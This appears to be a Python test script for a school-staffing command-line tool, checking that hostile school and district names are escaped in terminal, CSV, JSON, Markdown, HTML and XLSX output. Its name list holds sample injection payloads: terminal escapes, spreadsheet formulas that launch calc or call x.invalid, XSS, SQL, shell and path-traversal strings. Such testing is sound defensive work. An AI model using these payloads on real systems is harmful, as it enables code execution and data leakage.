#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""names.py STAFF: names that mean harm, as school, district and id, through every output.

Each output must stay what it is: a terminal gets no control character, a spreadsheet no
formula, a page no element, a Markdown table no column that the same tables with plain
names do not have; JSON and workbooks give the very name back.  Each run has 512 MiB.
Ends with `N passed, N failed`."""

import collections
import csv
import io
import json
import os
import re
import resource
import subprocess
import sys
import tempfile
import unicodedata
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import html5lib
import openpyxl

STAFF = str(Path(sys.argv[1]).resolve())
MEMORY = 512 << 20

NAMES = {
    "colour": "\x1b[31mred\x1b[0m", "cursor up": "a\x1b[2A\x1b[2Kb", "title": "\x1b]0;owned\x07x",
    "link of a terminal": "\x1b]8;;http://x.invalid\x1b\\y\x1b]8;;\x1b\\", "C1 CSI": "\x9b31mc",
    "C1 OSC": "z\x9d0;t\x9c", "C1 next line": "a\x85b", "backspace": "ab\b\b\bxyz", "bell": "a\x07b",
    "form feed": "a\x0cb", "vertical tab": "a\x0bb", "delete": "a\x7fb", "escape alone": "a\x1b",
    "NUL's picture": "a\u2400b", "backslash nought": "a\\0b", "percent nought": "a%00b",
    "bidi override": "\u202egnp.exe\u202c", "bidi embedding": "a\u202bb\u202ac", "isolates": "\u2066a\u2067b\u2069",
    "direction marks": "a\u200eb\u200fc\u061cd", "right to left": "\u05d1\u05d9\u05ea \u05e1\u05e4\u05e8 1",
    "Arabic": "\u0645\u062f\u0631\u0633\u0629 ٢", "zero width space": "a\u200bb", "joiners": "a\u200cb\u200dc",
    "soft hyphen": "a\u00adb", "word joiner": "a\u2060b", "BOM inside": "a\ufeffb", "tags": "a\U000e0041\U000e007fb",
    "annotation": "a\ufff9b\ufffac\ufffb", "line separator": "a\u2028b", "paragraph separator": "a\u2029b",
    "line feed": "a\nb", "return": "a\rb", "both": "a\r\nb", "tab": "a\tb", "blank lines": "a\n\n\nb",
    "header in a line": "a\nSet-Cookie: b", "quote": 'a"b', "quotes": '"', "quoted": '"a","b"', "apostrophe": "'a'b",
    "apostrophe formula": "'=2+1", "comma": "a,b;c", "backslash": "a\\", "escape text": "\\x1b[31m\\u202e",
    "command": "=cmd|'/c calc'!A0", "hyperlink": '=HYPERLINK("http://x.invalid?"&A1,"a")', "plus": "+1+1", "minus": "-1+1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0", "DDE": "=DDE(\"cmd\";\"/c calc\";\"a\")", "webservice": '=WEBSERVICE("http://x.invalid")',
    "minus command": "-2+3+cmd|' /C calc'!D2", "wide equals": "＝3+1", "wide plus": "＋4+1", "wide minus": "－1", "wide at": "＠a",
    "space formula": " =1+2", "tab formula": "\t=1+3", "return formula": "\r=1+4", "line feed formula": "\n=1+5",
    "wide space formula": "\u3000=1+6", "no-break space formula": "\u00a0=1+7", "hidden formula": "\u200b=1+8",
    "BOM formula": "\ufeff=1+9", "formula in the next line": "a\n=1+1z", "percent formula": "%=1", "bar formula": "|=1",
    "semicolon formula": ";=1+1", "quote formula": '"=1+1"', "array formula": "{=1+1}", "R1C1": "=R[1]C[1]",
    "script": "<script>alert(1)</script>", "end of script": "</script><script>", "image": '<img src=x onerror="alert(1)">',
    "attribute": '" onmouseover="alert(1)', "attribute, apostrophe": "' onload='alert(1)", "end of title": "</title><h1>x",
    "end of style": "</style><style>*{display:none}", "comment": "--><b>x<!--", "CDATA": "]]><b>x</b><![CDATA[",
    "entity": "&lt;b&gt;&amp;&#x1b;&nbsp", "processing": "<?php x ?><?xml?>", "doctype": "<!DOCTYPE x [<!ENTITY e 'x'>]>&e;",
    "svg": "<svg/onload=alert(1)>", "svg text": "</text><a href='javascript:1'>x</a><text>", "frame": "<iframe src=//x.invalid>",
    "base": "<base href=//x.invalid>", "meta": "<meta http-equiv=refresh content=0>", "template": "{{7*7}}${7*7}<%=7*7%>",
    "pipe": "a|b", "pipes": "||||", "escaped pipe": "a\\|b", "backtick": "`a`b``", "fence": "```", "md link": "[a](http://x.invalid)",
    "md image": "![a](http://x.invalid/b.png)", "autolink": "<http://x.invalid>", "emphasis": "**a** _b_ ~~c~~", "md heading": "# a",
    "md rule": "---", "md table": "|---|---|", "md HTML": "a<br>b", "md footnote": "[^1]", "md maths": "$a$", "md list": "1. a",
    "JSON": '","x":1,"y":"', "JSON end": '"}]}', "JSON escape": "a\\u0022,\\", "braces": "{0}{1}{99}%s%n%x%d", "percents": "%1$s%%",
    "sheet": "a[]:*?/\\b", "sheet apostrophe": "'a'", "sheet history": "History", "31": "三十一个字以上的区县名称" * 4, 
    "escape of a workbook": "_x0041_b_x005F_", "XML controls": "a\x01\x02\x08\x0e\x1fb", "noncharacter": "a\ufffe\uffffb",
    "noncharacters": "a\ufdd0\ufdef\U0001ffff\U0010ffffb", "private use": "a\ue000\uf8ff\U000f0000b", "replacement": "a\ufffdb",
    "four bytes": "\u3400\U00020000\U0002a6d6学", "emoji": "👩\u200d👩\u200d👧\u200d👦🏴", "combining": "a\u0301\u0300\u0489b", "lone mark": "\u0301\u20dda",
    "zalgo": "Z" + "\u0335\u0336\u0337\u0338" * 50, "wide": "ＡＢＣ学校", "halfwidth": "ｶﾞｯｺｳ", "very long": "长" * 660, "long word": "x" * 1990,
    "null": "null", "NaN": "NaN", "true": "true", "none": "undefined", "number": "1e999", "date": "1/2", "nought": "00", "path": "../../etc/passwd",
    "shell": "$(id);`id`|id&", "SQL": "'; DROP TABLE x;--", "device": "CON", "mongolian": "a\u180eb", "filler": "a\u3164b",
}
# No two of them are alike to the command.
NAMES = {kind: name + str(i) if name.endswith("b") else name for i, (kind, name) in enumerate(NAMES.items())}
FORMULA = "=+-@＝＋－＠"
SPACES = "".join(c for c in map(chr, range(0x3001)) if c.isspace()) + "\ufeff"


def is_hidden(c):
    """Shows something else than itself, or hides what is beside it."""
    if unicodedata.category(c) in ("Cc", "Zl", "Zp"):
        return True
    if ord(c) & 0xfffe == 0xfffe or 0xfdd0 <= ord(c) <= 0xfdef:
        return True
    return c in "\xad\u061c\u200b\u200e\u200f\ufeff\ufff9\ufffa\ufffb" or 0x202a <= ord(c) <= 0x202e or \
        0x2060 <= ord(c) <= 0x206f or 0xe0000 <= ord(c) <= 0xe007f


def escaped(c):
    n = ord(c)
    return f"\\U{n:08x}" if n > 0xffff else f"\\u{n:04x}" if n > 0xff else f"\\x{n:02x}"


def shown(name):
    return "".join(escaped(c) if is_hidden(c) else c for c in name)


class Case:
    """The same schools with hostile and with plain names."""

    def __init__(self, folder, names, file):
        self.folder, self.names, self.file = folder, names, file
        folder.mkdir()
        self.table(file, lambda i: i)
        self.table("more.csv", lambda i: i + 1)
        self.table("bad.csv", lambda i: "x")
        self.write("vacancies.csv", [["区县", "年度", "可用编制"]] + [[n, 2026, 2] for n in names])
        self.write("leavers.csv", [["年度", "学校代码", "学科", "减员"], [2026, names[0], "体育", 1]])

        self.headers()
        self.norms()

    def headers(self):
        """Columns that nobody knows, with each of the names."""
        self.write("headers.csv", [["学校代码", "小学班数", *self.names], ["1", 6, *self.names]])

    def norms(self):
        """The built-in norms, with the names where texts are for people."""
        rows = list(csv.DictReader(io.StringIO(self.run("norms", "export", "yangquan-2021", "--format", "csv")[1].decode())))
        texts = "document number url quote".split()
        for i, row in enumerate(rows):
            row.update({"set": "own", "title": self.names[0] + "长" * 300, "edition": self.names[1]})
            row.update({"subject_zh": self.names[2 + len(row["subject"])]})
            row.update({k: kept(self.names[(len(texts) * i + j) % len(self.names)]) for j, k in enumerate(texts)})
        self.write("norms.csv", [list(rows[0])] + [list(r.values()) for r in rows])

    def write(self, file, rows):
        with open(self.folder / file, "w", encoding="utf-8-sig", newline="") as out:
            csv.writer(out, quoting=csv.QUOTE_ALL).writerows(rows)

    def table(self, file, classes):
        head = ["学校代码", "学校名称", "区县", "城乡类别", "小学班数", "体育教师(专职)", "音乐教师"]
        self.write(file, [head] + [[n, n, n, "农村", classes(i % 30 + 6), 1, i % 3] for i, n in enumerate(self.names)])

    def run(self, *arguments):
        limit = lambda: resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))  # noqa: E731
        done = subprocess.run([STAFF, *arguments], cwd=self.folder, capture_output=True, timeout=120,
                              preexec_fn=limit)
        return done.returncode, done.stdout, done.stderr

    def formats(self, command):
        """What its help lists."""
        words = self.run("help", command, "--lang", "en")[1].decode()
        return re.search(r"--format ([a-z|]+)", words)[1].split("|")


def kept(name):
    """Names are read without the blanks around them."""
    return name.strip(SPACES + "\u200b")


class Checks:
    def __init__(self):
        self.passed = self.failed = 0

    def equal(self, what, got, want):
        if got == want:
            self.passed += 1
            return
        self.failed += 1
        print(f"FAIL {what}: {got!r:.300}, not {want!r:.300}")

    def nothing(self, what, found):
        self.equal(what, found, type(found)())


def text_of(checks, what, data):
    """UTF-8, and nothing in it that a terminal obeys, or that turns or hides what is shown."""
    text = data.decode("utf-8", "strict").removeprefix("\ufeff")
    checks.nothing(f"{what}: signs that do not show themselves", sorted({c for c in text if c != "\n" and is_hidden(c)}))
    return text


# ---- One for each format: hostile output, plain output, the names ----

def check_table(checks, what, hostile, _plain, names):
    text_of(checks, what, hostile)
    return names


def check_csv(checks, what, hostile, plain, names):
    rows = list(csv.reader(io.StringIO(text_of(checks, what, hostile), newline=""), strict=True))
    like = list(csv.reader(io.StringIO(plain.decode("utf-8-sig"), newline=""), strict=True))
    checks.equal(f"{what}: columns", [len(r) for r in rows], [len(r) for r in like])
    checks.nothing(f"{what}: formulas", [c for r in rows for c in r if is_formula(c)])
    return cells_are(checks, what, {c for r in rows for c in r}, names, lambda n: ("'" if n[0] in FORMULA else "") + shown(n))


def is_formula(cell):
    """Whatever stands before the sign; numbers below 0 are no formulas."""
    cell = cell.lstrip(SPACES + "\u200b")
    return bool(cell) and cell[0] in FORMULA and not re.fullmatch(r"-[0-9]+(/[0-9]+)?", cell)


def cells_are(checks, what, cells, names, want):
    """Each name that plain output has stands in a cell of its own."""
    checks.nothing(f"{what}: names that are not there", [n for n in names if want(n) not in cells])
    return names


def strict(pairs):
    keys = [k for k, _ in pairs]
    if len(set(keys)) != len(keys):
        raise ValueError(f"a key twice: {keys}")
    return dict(pairs)


def refuse(word):
    raise ValueError(word)


def loads(text):
    return json.loads(text, object_pairs_hook=strict, parse_constant=refuse)


def shape(value):
    """Keys and types, without the names."""
    if isinstance(value, dict):
        return {k: shape(v) for k, v in value.items()}
    if isinstance(value, list):
        return [shape(v) for v in value]
    return type(value).__name__


def strings(value):
    if isinstance(value, dict):
        value = list(value.values())
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return [value] if isinstance(value, str) else []


def check_json(checks, what, hostile, plain, names):
    text = hostile.decode("utf-8", "strict")
    checks.nothing(f"{what}: raw controls", sorted({c for c in text if c != "\n" and (ord(c) < 32 or c == "\x7f")}))
    got = loads(text)
    checks.equal(f"{what}: shape", shape(got), shape(loads(plain.decode())))
    return cells_are(checks, what, set(strings(got)), names, lambda n: n)


def check_jsonl(checks, what, hostile, plain, names):
    lines = [b"[" + data.rstrip(b"\n").replace(b"\n", b",") + b"]" for data in (hostile, plain)]
    return check_json(checks, what, *lines, names)


def check_md(checks, what, hostile, plain, names):
    text, like = text_of(checks, what, hostile), plain.decode()

    def columns(page):
        return [len(re.sub(r"\\.", "", line).split("|")) for line in page.split("\n") if line.startswith("|")]

    checks.equal(f"{what}: columns", columns(text), columns(like))
    bare = re.sub(r"\\.", "", text)
    checks.equal(f"{what}: marks", collections.Counter(c for c in bare if c in "<>[]`~$#"),
                 collections.Counter(c for c in re.sub(r"\\.", "", like) if c in "<>[]`~$#"))
    return names


def elements(page):
    document = html5lib.HTMLParser(strict=True, namespaceHTMLElements=False).parse(page.decode("utf-8", "strict"))
    return collections.Counter(
        (str(e.tag) if isinstance(e.tag, str) else "comment", tuple(sorted(e.attrib))) for e in document.iter()
    ), "\n".join(document.itertext())


def check_html(checks, what, hostile, plain, names):
    text_of(checks, what, hostile)
    try:
        got, text = elements(hostile)
    except html5lib.html5parser.ParseError as error:
        checks.nothing(f"{what}: errors of a parser", str(error))
        return names
    checks.equal(f"{what}: elements and attributes", got, elements(plain)[0])
    lines = set(text.split("\n"))
    return cells_are(checks, what, lines, [n for n in names if len(n) < 100], shown)


def unescaped(value):
    """As a spreadsheet does: _x0041_ is an A."""
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), value)


def shared(data):
    """Texts that cells point at; openpyxl takes escaped underscores away."""
    book = zipfile.ZipFile(io.BytesIO(data))
    if "xl/sharedStrings.xml" not in book.namelist():
        return set()
    return {unescaped("".join(t.itertext())) for t in ElementTree.fromstring(book.read("xl/sharedStrings.xml"))}


def check_xlsx(checks, what, hostile, plain, names):
    parts = [zipfile.ZipFile(io.BytesIO(data)).namelist() for data in (hostile, plain)]
    checks.equal(f"{what}: parts", *parts)
    got, like = (openpyxl.load_workbook(io.BytesIO(data)) for data in (hostile, plain))
    checks.nothing(f"{what}: sheets' names", [s for s in got.sheetnames if len(s) > 31 or set(s) & set("[]:*?/\\")])
    checks.equal(f"{what}: sheets", len({s.casefold() for s in got.sheetnames}), len(like.sheetnames))
    kinds = [{(i, c.coordinate): c.data_type for i, s in enumerate(book) for row in s.iter_rows() for c in row if c.value is not None}
             for book in (got, like)]
    checks.equal(f"{what}: kinds of cells", *kinds)
    links = [c.coordinate for s in got for row in s.iter_rows() for c in row if c.hyperlink]
    checks.equal(f"{what}: links", links, [c.coordinate for s in like for row in s.iter_rows() for c in row if c.hyperlink])
    checks.equal(f"{what}: names of ranges", list(got.defined_names), list(like.defined_names))
    cells = {unescaped(c.value) for s in got for row in s.iter_rows() for c in row if c.data_type == "s"}
    return cells_are(checks, what, cells | shared(hostile), names, shown)


CHECKS = {"table": check_table, "csv": check_csv, "json": check_json, "jsonl": check_jsonl, "md": check_md, "html": check_html,
          "xlsx": check_xlsx}


def compare(checks, hostile, plain, what, command, *rest, listed=True):
    """One command, in each of its formats, on both tables.  listed: with every name."""
    for form in hostile.formats(command):
        outputs = []
        for case in hostile, plain:
            out = case.folder / f"out.{form}"
            out.unlink(missing_ok=True)
            arguments = [command, *(case.file if a == "TABLE" else a for a in rest), "--format", form, "--lang", "zh", "-o", out.name]
            status, printed, said = case.run(*arguments)
            text_of(checks, f"{what} {form}, messages", said)
            checks.equal(f"{what} {form}: printed", printed, b"")
            outputs.append(out.read_bytes() if out.exists() else b"")
            if status not in (0, 1) or not outputs[-1]:
                checks.nothing(f"{what} {form}: exit {status}, {len(outputs[-1])} bytes", said.decode()[:500])
                return
        want = [n if command == "check" else kept(n) for n in hostile.names if listed]
        lists_all = command != "check" or form == "xlsx"
        CHECKS[form](checks, f"{what} {form}", *outputs, want if lists_all else [])


def explain(checks, hostile):
    """Each school by its name, which a command line cannot have a NUL in."""
    for kind, name in NAMES.items():
        name = kept(name)
        for form in "table", "json":
            status, printed, said = hostile.run("explain", hostile.file, "--school", name, "--format", form)
            what = f"explain {kind}, {form}"
            text_of(checks, what, said)
            checks.equal(f"{what}: exit", status, 0)
            if form == "json" and status == 0:
                got = loads(printed.decode())
                checks.equal(what, [got[k] for k in ("id", "school", "district")], [name] * 3)
            else:
                text_of(checks, what, printed)


def messages(checks, hostile):
    """What is said of columns, files, words and subcommands."""
    for arguments in (["shortfall", "headers.csv", "-v"], ["check", "headers.csv"]):
        text_of(checks, f"{arguments}: messages", hostile.run(*arguments)[2])
    for kind, name in NAMES.items():
        for arguments in (["shortfall", hostile.file, "--district", name], [name + ".csv"], ["explain", hostile.file, "--school", name + "?"],
                          ["shortfall", "t", "--format", name]):
            status, printed, said = hostile.run(*arguments)
            checks.equal(f"{arguments}: exit", status in (0, 1, 2, 3), True)
            text_of(checks, f"{kind}, {arguments}: printed", printed)
            text_of(checks, f"{kind}, {arguments}: messages", said)


def main():
    checks = Checks()
    names = list(NAMES.values())
    plain_names = [f"名{i}" for i in range(len(names))]
    with tempfile.TemporaryDirectory() as folder:
        hostile = Case(Path(folder, "hostile"), names, "\x1b[31m=1+1,<b>|`&\"'\u202e.csv")
        plain = Case(Path(folder, "plain"), plain_names, "plain.csv")
        compare(checks, hostile, plain, "shortfall", "shortfall", "TABLE")
        plan = ["TABLE", "--vacancies", "vacancies.csv", "--leavers", "leavers.csv", "--from", "2026", "--years", "1", "--share-surplus"]
        compare(checks, hostile, plain, "plan", "plan", *plan)
        compare(checks, hostile, plain, "check", "check", "TABLE")
        compare(checks, hostile, plain, "check bad", "check", "bad.csv")
        compare(checks, hostile, plain, "compare", "compare", "TABLE", "more.csv")
        compare(checks, hostile, plain, "compare norms", "compare", "TABLE", "--norms", "yangquan-2021", "--norms", "norms.csv", listed=False)
        compare(checks, hostile, plain, "thresholds", "thresholds", "TABLE")
        compare(checks, hostile, plain, "norms", "norms", "--norms", "norms.csv", listed=False)
        compare(checks, hostile, plain, "own norms", "shortfall", "TABLE", "--norms", "norms.csv")
        explain(checks, hostile)
        messages(checks, hostile)
    print(f"{checks.passed} passed, {checks.failed} failed")
    return checks.failed > 0


if __name__ == "__main__":
    sys.exit(main())
